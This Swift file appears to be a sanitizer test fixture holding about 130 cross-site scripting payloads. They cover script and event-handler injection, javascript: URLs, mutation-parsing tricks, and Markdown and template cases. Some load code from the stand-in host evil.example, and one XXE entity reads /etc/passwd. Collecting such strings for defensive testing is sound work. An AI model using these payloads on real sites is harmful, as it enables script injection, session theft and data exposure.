/// Known ways to make a page run what a text says, from public collections; each calls `alert(1)`
/// or loads from `evil.example` where it works.
enum AttackStrings {
  static let all: [String] = elements + attributes + addresses + parsing + others

  static let elements = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<<script>alert(1);//<</script>", "<script>alert(1)",
    "<script src=data:text/javascript,alert(1)></script>", "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script>", "<math><script>alert(1)</script></math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=//evil.example></iframe>", "<object data=javascript:alert(1)>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=javascript:alert(1)>", "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<applet code=x></applet>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>", "<input type=image src=x onerror=alert(1)>",
    "<frameset onload=alert(1)>", "<template><img src=x onerror=alert(1)></template>",
    "<portal src=javascript:alert(1) onload=alert(1)></portal>",
  ]

  static let attributes = [
    "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'/>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\u{0C}=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>", "<img src=x:alert(1) onerror=eval(src)>",
    "<img \"\"\"><script>alert(1)</script>\">", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<p onclick=alert(1)>x</p>",
    "<p onmouseover=alert(1)>x", "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style=behavior:url(//evil.example/x.htc)>x</p>",
    "<b onfocus=alert(1) autofocus tabindex=1>x",
    "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>", "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<video poster=javascript:alert(1)//></video>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<a href=x onclick=alert(1)>x</a>",
    "<div style=\"width: expression(alert(1))\">x</div>", "<x onclick=alert(1) contenteditable>x",
    "<xss style=animation-name:x onanimationstart=alert(1)>", "<img srcset='//evil.example/x 1x'>",
  ]

  static let addresses = [
    "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>", "<a href=feed:javascript:alert(1)>x</a>",
    "<a href='jar:javascript:alert(1)!/'>x</a>", "<a href='javascript://x%0aalert(1)'>x</a>",
    "<a href='http:javascript:alert(1)'>x</a>", "<a href='https://x\" onclick=\"alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>", "<img src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<a href='blob:https://x/1'>x</a>",
    "<a href='https://example.com/`onclick=alert(1)'>x</a>",
  ]

  static let parsing = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></a></title>",
    "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\"></a></textarea>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<?xml-stylesheet href='javascript:alert(1)'?>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<table><td><a href=javascript:alert(1)>x", "<p><p><p><b><i><a href=javascript:alert(1)>x",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "</p><img src=x onerror=alert(1)>",
    "<a href=\"https://example.com\"><img src=x onerror=alert(1)></a>",
    "<ruby><rt><img src=x onerror=alert(1)></rt></ruby>", "\u{FEFF}<script>alert(1)</script>",
    "<img src=x\u{0}onerror=alert(1)>", "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
  ]

  /// What would be mark-up only after one more round of unescaping, or in Markdown.
  static let others = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]", "&lt;javascript:alert(1)&gt;",
    "`<img src=x onerror=alert(1)>`",
    "<p>&#60;img src=x onerror=alert(1)&#62;</p>", "{{constructor.constructor('alert(1)')()}}",
    "{{{alert(1)}}}", "<%= alert(1) %>", "${alert(1)}", "<p>\\<script>alert(1)</script></p>",
    "<code>&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code>",
  ]
}
